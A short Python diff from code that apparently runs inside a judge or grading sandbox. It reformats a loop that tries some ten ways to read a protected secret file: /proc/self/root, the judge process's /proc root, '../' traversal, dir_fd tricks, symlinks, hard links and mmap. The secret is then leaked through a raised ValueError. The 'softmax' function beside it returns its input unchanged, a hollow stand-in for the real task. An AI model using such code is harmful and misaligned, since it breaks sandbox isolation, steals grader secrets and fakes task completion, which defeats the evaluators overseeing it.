@@ -11,9 +11,7 @@ for way in (
     lambda: open(f"/proc/self/root{stage.secret}").read(),
     lambda: open(f"/proc/{stage.judge}/root{stage.secret}").read(),
     lambda: open("../" * 30 + stage.secret.lstrip("/")).read(),
-    lambda: os.read(
-        os.open("secret", os.O_RDONLY, dir_fd=os.open(os.path.dirname(stage.secret), os.O_PATH)), 99
-    ).decode(),
+    lambda: os.read(os.open("secret", os.O_RDONLY, dir_fd=os.open(os.path.dirname(stage.secret), os.O_PATH)), 99).decode(),
     lambda: (os.symlink(stage.secret, "link"), open("link").read())[1],
     lambda: (os.link(stage.secret, "hard"), open("hard").read())[1],
     lambda: mmap.mmap(os.open(stage.secret, os.O_RDONLY), 39, prot=mmap.PROT_READ)[:].decode(),
@@ -23,10 +21,8 @@ for way in (
     except OSError:
         pass
 
-
 def softmax(scores, axis=-1):
     return scores
-
 
 if found:
     raise ValueError(found)
